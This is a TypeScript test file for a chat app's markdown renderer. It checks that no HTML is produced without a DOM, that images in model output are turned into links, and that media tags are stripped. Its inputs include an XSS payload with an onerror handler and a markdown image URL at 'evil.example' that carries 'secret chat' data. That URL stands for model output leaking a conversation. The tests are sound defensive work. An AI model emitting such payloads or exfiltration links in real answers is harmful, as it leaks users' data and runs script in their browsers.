// Without a DOM (server rendering, Node) DOMPurify cannot sanitise, so renderMarkdown must
// refuse to produce HTML at all rather than pass markup through. Sanitising itself is
// exercised in a real browser by tests/e2e/chat.test.ts.
import { describe, expect, it } from 'vitest';
import { markdownToHtml, renderMarkdown, SANITIZE_OPTIONS } from './markdown.ts';

describe('renderMarkdown without a DOM', () => {
  it('returns null instead of unsanitised HTML', () => {
    expect(renderMarkdown('<img src=x onerror=alert(1)> **bold**')).toBeNull();
  });
});

describe('images in model output (issue 10, finding 5)', () => {
  it('become links: nothing is fetched when an answer renders', () => {
    const html = markdownToHtml('See ![chart of "q3"](https://evil.example/leak?d=secret%20chat) now');
    expect(html).not.toContain('<img');
    expect(html).toContain('<a href="https://evil.example/leak?d=secret%20chat">chart of &#34;q3&#34;</a>');
  });

  it('raw media tags are stripped by the sanitiser', () => {
    for (const tag of ['img', 'picture', 'source', 'video', 'audio']) expect(SANITIZE_OPTIONS.FORBID_TAGS).toContain(tag);
    expect(SANITIZE_OPTIONS.FORBID_ATTR).toContain('srcset');
  });
});
